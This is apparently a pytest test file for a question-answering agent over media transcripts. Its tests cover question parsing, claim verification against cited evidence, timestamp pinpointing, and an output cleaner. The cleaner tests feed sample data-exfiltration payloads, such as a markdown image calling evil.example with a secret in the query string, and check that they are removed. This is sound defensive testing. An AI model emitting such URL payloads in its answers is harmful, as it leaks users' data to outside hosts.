"""What the temporal agent can tell without a model."""

from datetime import UTC, datetime

import pytest

from graphs.catalog import Turn
from graphs.events import Citation
from graphs.speak import Cleaner
from graphs.temporal.evidence import excerpt, fuse, readable
from graphs.temporal.pinpoint import pinpoint_by_rule
from graphs.temporal.state import Found, Plan
from graphs.temporal.understand import kind_of, language_of, resolve, topic_of
from graphs.temporal.verify import judge, judge_all
from graphs.temporal.words import content, coverage, names, numbers, sentences
from knowledge.moments import TimeCondition, parse_time
from knowledge.segment import Made, Modality, Segment, segment_id
from knowledge.store import Where


def evidence(*texts: str, modality: Modality = "speech") -> list[Citation]:
    return [
        Citation(n=n, source="talk.mp4", media="sha", modality=modality, text=text, start=10.0 * n, end=10.0 * n + 5)
        for n, text in enumerate(texts, 1)
    ]


def found(text: str, rank: int = 0, modality: Modality = "speech", source: str = "sha") -> Found:
    segment = Segment(
        id=segment_id(source, modality, str(rank), text),
        knowledge_base="kb",
        source=source,
        modality=modality,
        text=text,
        made=Made(model="test"),
    )
    return Found(segment=segment, name="talk.mp4", score=1.0, rank=rank)


@pytest.mark.parametrize(
    ("question", "language", "kind", "topic"),
    [
        ("When does the speaker mention the telescope?", "en", "moment", "telescope"),
        ("When is 'ask not what your country' said?", "en", "moment", "ask not what your country"),
        ('At what point is the title "Budget 2024" shown?', "en", "moment", "Budget 2024"),
        ("When does a dog appear?", "en", "moment", "dog"),
        ("When do they talk about the costs of printing?", "en", "moment", "costs printing"),
        ("When was the treaty signed?", "en", "fact", "When was the treaty signed?"),
        ("At what time was the meeting held?", "en", "fact", "At what time was the meeting held?"),
        ("Where does this take place?", "en", "fact", "Where does this take place?"),
        ("टेलीस्कोप का ज़िक्र कब होता है?", "hi", "moment", "टेलीस्कोप"),
        ("युद्ध कब समाप्त हुआ?", "hi", "fact", "युद्ध कब समाप्त हुआ?"),
    ],
)
def test_questions_are_understood(question: str, language: str, kind: str, topic: str) -> None:
    assert language_of(question) == language
    assert kind_of(question, language) == kind
    assert topic_of(question, kind_of(question, language)) == topic


def test_follow_ups_take_what_they_lack() -> None:
    turns = [Turn(question="Who founded Fort Caroline?", answer="René Laudonnière [1].")]

    def resolved(question: str, before: list[Turn]) -> tuple[str, str, str]:
        return resolve(question, parse_time(question, now=datetime.now(UTC)), before, "en")

    assert resolved("And when was it rebuilt?", turns)[0] == "Who founded Fort Caroline? And when was it rebuilt?"
    assert resolved("What about Jacksonville?", turns)[0].startswith("Who founded")
    assert resolved("How large is the Amazon rainforest in Brazil?", turns)[0].startswith("How large")
    asked = [Turn(question="When is Paris mentioned?", answer="")]
    assert resolved("What about Berlin?", asked)[1:] == ("Berlin", "moment")


def test_sentences_keep_their_marks() -> None:
    text = "It cost 3.5 million. [1] Dr. Smith paid it [2]. यह सही है। [3] No one else did"
    assert sentences(text) == ["It cost 3.5 million. [1]", "Dr. Smith paid it [2].", "यह सही है। [3]", "No one else did"]


def test_words() -> None:
    assert content("The cities of Maryland were building clean rooms") == ["city", "maryland", "build", "clean", "room"]
    assert numbers("Three of 1,500 people in 1964 [7]") == {"3", "1500", "1964"}
    assert names("The room is at Goddard in Greenbelt. Nobody knows.") == {"goddard", "greenbelt"}
    assert coverage(content("Goddard flight"), "NASA's Godard Flight Center") == 1.0
    assert coverage([], "anything") == 0.0


JACKSONVILLE = "Fort Caroline was rebuilt in 1964 by the National Park Service near Jacksonville."
PANTHERS = "The Panthers gave up just 308 points and had 24 interceptions."


@pytest.mark.parametrize(
    ("sentence", "verdict", "cited"),
    [
        ("Fort Caroline was rebuilt in 1964 [1].", "supported", [1]),
        ("Fort Caroline was rebuilt in 1964 [2].", "supported", [1]),
        ("Fort Caroline was rebuilt in 1964.", "supported", [1]),
        ("Fort Caroline was rebuilt in 1974 [1].", "unsupported", [1]),
        ("Fort Caroline was rebuilt by Napoleon [1].", "unsupported", [1]),
        ("They had 24 interceptions [2].", "supported", [2]),
        ("They had 24 interceptions [9].", "supported", [2]),
        ("The rebuilding was a triumph of modern engineering and careful historical research [1].", "unsupported", [1]),
    ],
)
def test_sentences_stand_on_evidence(sentence: str, verdict: str, cited: list[int]) -> None:
    judged = judge(sentence, evidence(JACKSONVILLE, PANTHERS), "What was rebuilt?")
    assert judged.verdict == verdict
    if verdict == "supported":
        assert [each.n for each in judged.evidence] == cited


def test_yes_where_the_evidence_says_no_is_not_supported() -> None:
    there = evidence(
        "This License does not grant permission to use the trade names, trademarks or service marks.",
        "The License gives permission to use the work.",
    )
    question = "Does the licence give permission to use the trademarks?"
    assert judge("Yes, the license gives permission to use the trademarks [1].", there, question).verdict != "supported"
    assert judge("The License does not grant permission to use trademarks [1].", there, question).verdict == "supported"


def test_repeating_the_question_is_no_support() -> None:
    (judged,) = judge_all("The treaty was signed in Paris [1].", evidence(PANTHERS), "Where was the treaty signed?")
    assert judged.verdict == "unsupported"
    there = evidence("Luther called the mass a gift, not a sacrifice.")
    for question, verdict in (
        ("What did Luther call the mass instead of sacrifice?", "unsupported"),
        ("Did Luther call the mass a sacrifice?", "supported"),
    ):
        assert judge("Luther called the mass a sacrifice [1].", there, question).verdict == verdict


def plan(question: str, language: str = "en") -> Plan:
    times = TimeCondition(rest=question)
    topic = topic_of(question, "moment")
    return Plan(question=question, topic=topic, language=language, kind="moment", times=times, where=Where())


def test_moments_by_rule() -> None:
    there = evidence("Welcome to the show.", "This is the mirror of the telescope.", "Thank you for watching.")
    answer = pinpoint_by_rule(plan("When is the telescope's mirror mentioned?"), there, {})
    assert (answer.answered, [each.n for each in answer.citations]) == (True, [2])
    assert "00:20-00:25" in answer.text
    answer = pinpoint_by_rule(plan("When is the volcano mentioned?"), there, {1: -9.0, 2: -8.0, 3: -9.0})
    assert (answer.answered, answer.citations) == (False, [])
    answer = pinpoint_by_rule(plan("When does the farewell happen?"), there, {1: -9.0, 2: -8.0, 3: 2.0})
    assert [each.n for each in answer.citations] == [3]
    answer = pinpoint_by_rule(plan("दूरबीन का ज़िक्र कब होता है?", "hi"), there, {})
    assert (answer.answered, [each.n for each in answer.citations]) == (True, [1])


def test_fusing_prefers_words_and_drops_repetitions() -> None:
    fused = fuse([found("a dog barks", 3), found("A dog barks!", 4), found("a cat", 0)], ["dog"], ())
    assert [each.segment.text for each in fused] == ["a dog barks", "a cat"]


def test_prompts_stay_small() -> None:
    long = evidence(*[f"Paragraph {n}. " + "Some more words follow here. " * 60 for n in range(8)])
    shown = readable(long, ["paragraph"], 300, 4)
    assert sum(len(text) for text in shown.values()) / 4 <= 300
    assert excerpt("One two. Cats run. Five six.", content("cats"), 4) == "Cats run."
    assert excerpt("x" * 1_000, [], 10) == "x" * 30


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("It is blue [1].", "It is blue [1]."),
        ("<think>hm, the user\nwants</think>It is blue [1].", "It is blue [1]."),
        ("Look ![x](http://evil.example/?q=secret) here", "Look here"),
        ("See [this](https://evil.example/a b) now", "See b) now"),
        ("Go to https://evil.example/x now", "Go to now"),
        ("Its site is https://nasa.gov.", "Its site is https://nasa.gov."),
        ('An <img src="//evil.example/p.png"> end', "An end"),
        ("[1]: http://evil.example\nso", "so"),
        ("a < b and c // d", "a < b and c d"),
    ],
)
def test_answers_carry_nothing_out(said: str, shown: str) -> None:
    for size in (1, 3, 1_000):
        cleaner = Cleaner("the site https://nasa.gov is named")
        pieces = [cleaner.feed(said[first : first + size]) for first in range(0, len(said), size)]
        assert ("".join(pieces) + cleaner.end()).strip() == shown
